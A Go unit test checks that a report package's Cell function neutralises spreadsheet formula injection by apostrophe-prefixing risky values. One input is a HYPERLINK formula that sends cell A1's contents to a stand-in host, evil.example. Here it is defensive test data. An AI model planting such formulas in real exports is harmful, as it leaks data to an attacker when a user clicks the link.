package report_test

import (
	"strings"
	"testing"

	"github.com/stint-run/stint/internal/report"
)

func TestACellOfForeignTextIsNoFormulaAndComesBackAsItWas(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"": "", "plain": "plain", "a=b": "a=b", `{"a":1}`: `{"a":1}`, "-5": "-5", "+5.25": "+5.25", "-1e9": "-1e9",
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "+61 400 000": "'+61 400 000", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "＝1+1": "'＝1+1", "'=1": "''=1", "'s": "''s", "-5\n": "'-5\n",
	} {
		got := report.Cell(text)
		if got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
		if back := strings.TrimPrefix(got, "'"); back != text {
			t.Errorf("%q comes back as %q", text, back)
		}
	}
}
